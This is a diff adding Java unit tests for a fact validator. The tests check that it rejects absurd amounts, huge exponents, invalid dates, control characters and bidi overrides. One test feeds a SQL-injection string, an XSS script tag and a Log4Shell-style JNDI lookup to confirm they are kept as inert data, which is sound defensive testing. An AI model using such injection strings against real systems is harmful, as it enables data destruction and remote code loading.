@@ -100,6 +100,69 @@ class FactValidatorTest {
         assertEquals(new FactProblem(1, "id", "与第 0 条事实 id 相同但内容不同"), e.problems().get(0));
     }
 
+    @Test
+    void an_absurd_amount_is_refused_before_any_arithmetic_on_it() {
+        for (Object huge : List.of(new BigDecimal("1E+999999999"), "1e999999999", new BigDecimal("1000000000000000"))) {
+            Map<String, Object> p = Map.of("id", "p", "kind", "payment.received", "date", "2022-12-30", "amount", huge);
+            InvalidInputException e = assertThrows(InvalidInputException.class,
+                    () -> validator.validate(contract(), List.of(p), "u", TODAY), huge::toString);
+            assertEquals(new FactProblem(0, "amount", "金额过大：整数部分最多 15 位（元）"), e.problems().get(0));
+        }
+        Map<String, Object> largest = Map.of("id", "p", "kind", "payment.received", "date", "2022-12-30", "amount",
+                "999999999999999.99");
+        assertEquals(new BigDecimal("999999999999999.99"), validator.validate(contract(), List.of(largest), "u", TODAY).get(0).getAmount());
+    }
+
+    @Test
+    void a_number_attribute_is_plain_bounded_decimal_notation_and_a_huge_exponent_costs_nothing() {
+        for (Object bad : List.of(new BigDecimal("1E+999999999"), "1e3", "1" + "0".repeat(30), "0." + "1".repeat(21))) {
+            Map<String, Object> f = new HashMap<>(document("n", "plan", "2022-05-01"));
+            f.put("attributes", Map.of("title", "t", "pages", bad));
+            InvalidInputException e = assertThrows(InvalidInputException.class,
+                    () -> validator.validate(contract(), List.of(f), "u", TODAY), bad::toString);
+            assertEquals("attributes.pages", e.problems().get(0).field());
+            assertTrue(e.problems().get(0).reason().startsWith("数字超出范围"), e.problems().get(0).reason());
+        }
+        Map<String, Object> ok = new HashMap<>(document("n", "plan", "2022-05-01"));
+        ok.put("attributes", Map.of("title", "t", "pages", new BigDecimal("1E+2")));
+        assertEquals("100", validator.validate(contract(), List.of(ok), "u", TODAY).get(0).attr("pages"));
+    }
+
+    @Test
+    void control_characters_unpaired_surrogates_and_bidi_overrides_are_refused_in_every_text_and_quotes_are_data() {
+        for (String bad : List.of("a\u0000b", "bell\u0007", "esc\u001b[31m", "half \ud800 pair", "\u202eevil")) {
+            Map<String, Object> inTitle = new HashMap<>(document("t", "plan", "2022-05-01"));
+            inTitle.put("attributes", Map.of("title", bad));
+            InvalidInputException e = assertThrows(InvalidInputException.class,
+                    () -> validator.validate(contract(), List.of(inTitle), "u", TODAY), bad);
+            assertEquals("attributes.title", e.problems().get(0).field());
+        }
+        String injection = "'; DROP TABLE fact; -- <script>alert(1)</script> ${jndi:ldap://x/a} 多行\n文字\t😀";
+        Map<String, Object> data = new HashMap<>(document("t", "plan", "2022-05-01"));
+        data.put("attributes", Map.of("title", injection));
+        assertEquals(injection, validator.validate(contract(), List.of(data), "u", TODAY).get(0).attr("title"));
+    }
+
+    @Test
+    void a_time_after_the_latest_moment_is_refused_and_a_fixed_day_accepts_its_whole_day() {
+        Map<String, Object> late = Map.of("id", "t", "kind", "payment.received", "date", "2023-03-01",
+                "time", "2023-03-01T10:06:00", "amount", "1.00");
+        java.time.LocalDateTime now = java.time.LocalDateTime.of(2023, 3, 1, 10, 0);
+        InvalidInputException e = assertThrows(InvalidInputException.class,
+                () -> validator.validate(contract(), List.of(late), "u", TODAY, now.plusMinutes(5)));
+        assertEquals("time", e.problems().get(0).field());
+        assertEquals(1, validator.validate(contract(), List.of(late), "u", TODAY).size(), "the end of a fixed today");
+    }
+
+    @Test
+    void dates_that_do_not_exist_or_lie_far_outside_the_contract_are_refused() {
+        for (String date : List.of("2022-02-30", "0000-05-01", "99999-01-01", "+99999-01-01", "2022-1-5", "20220105")) {
+            InvalidInputException e = assertThrows(InvalidInputException.class,
+                    () -> validator.validate(contract(), List.of(document("d", "plan", date)), "u", TODAY), date);
+            assertEquals("date", e.problems().get(0).field(), date);
+        }
+    }
+
     private static Map<String, Object> document(String id, String subject, String date) {
         return Map.of("id", id, "kind", "drill.document", "subject", subject, "date", date, "status", "submitted",
                 "attributes", Map.of("title", "应急演练报告"));
